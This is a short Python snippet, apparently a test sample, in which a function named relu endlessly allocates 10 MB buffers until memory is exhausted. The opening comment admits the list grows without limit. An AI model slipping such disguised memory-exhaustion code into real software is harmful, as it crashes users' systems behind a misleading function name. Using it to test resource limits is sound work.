# A list that grows without limit.
def relu(x):
    kept = []
    while True:
        kept.append(bytearray(10**7))
